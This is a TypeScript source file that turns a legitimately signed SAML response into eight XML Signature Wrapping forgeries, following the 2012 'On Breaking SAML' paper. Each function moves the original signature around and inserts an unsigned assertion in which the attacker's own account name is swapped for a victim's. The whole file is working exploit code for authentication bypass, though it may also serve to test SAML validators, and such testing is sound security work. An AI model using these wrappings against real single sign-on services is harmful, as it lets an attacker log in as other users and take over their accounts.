/** What an attacker knows: a signed response of the own account, and whose account to claim. */
interface Signed {
  xml: string;
  own: string;
  victim: string;
}

const end = '</ds:Signature>';

/**
 * The eight shapes of 'On Breaking SAML: Be Whoever You Want to Be' (Somorovsky and others, 2012). The first two move a
 * signed response, the others a signed assertion.
 */
export const wrappings: ((signed: Signed) => string)[] = [
  (signed) => wrapResponse(signed, (original, signature) => signature.replace(end, original + end)),
  (signed) => wrapResponse(signed, (original, signature) => original + signature),
  (signed) => wrapAssertion(signed, ({ forged, assertion }) => forged + assertion),
  (signed) => wrapAssertion(signed, ({ forged, assertion }) => inside(forged, assertion)),
  (signed) => wrapAssertion(signed, ({ forged, original, signature }) => withSignature(forged, signature) + original),
  (signed) =>
    wrapAssertion(signed, ({ forged, original, signature }) =>
      withSignature(forged, signature.replace(end, original + end)),
    ),
  (signed) =>
    wrapAssertion(signed, ({ forged, assertion }) => `<samlp:Extensions>${forged}</samlp:Extensions>${assertion}`),
  (signed) =>
    wrapAssertion(signed, ({ forged, original, signature }) =>
      withSignature(forged, signature.replace(end, `<ds:Object>${original}</ds:Object>${end}`)),
    ),
];

const withSignature = (element: string, signature: string) => element.replace('</saml:Issuer>', `$&${signature}`);
const inside = (element: string, child: string) => element.replace(/<\/saml:Assertion>$/, `${child}$&`);
const signatureIn = (xml: string) => /<ds:Signature[\s\S]*?<\/ds:Signature>/.exec(xml)![0];
const assertionIn = (xml: string) => /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)![0];

/** Returns the same assertion without a signature, of another account. */
function forgedOf({ own, victim }: Signed, assertion: string): string {
  return assertion
    .replace(signatureIn(assertion), '')
    .replace(/ ID="[^"]*"/, ' ID="_forged"')
    .replaceAll(own, victim);
}

function wrapAssertion(
  signed: Signed,
  wrap: (parts: Record<'forged' | 'assertion' | 'original' | 'signature', string>) => string,
): string {
  const assertion = assertionIn(signed.xml);
  const signature = signatureIn(assertion);
  const original = assertion.replace(signature, '');
  return signed.xml.replace(assertion, wrap({ forged: forgedOf(signed, assertion), assertion, original, signature }));
}

function wrapResponse(signed: Signed, wrap: (original: string, signature: string) => string): string {
  const assertion = assertionIn(signed.xml);
  const signature = signatureIn(signed.xml.replace(assertion, ''));
  const original = signed.xml.replace(signature, '').replace(/^<\?xml[^>]*>/, '');
  const forged = original.replace(assertion, forgedOf(signed, assertion)).replace(/ ID="[^"]*"/, ' ID="_other"');
  return forged.replace('</saml:Issuer>', `$&${wrap(original, signature)}`);
}
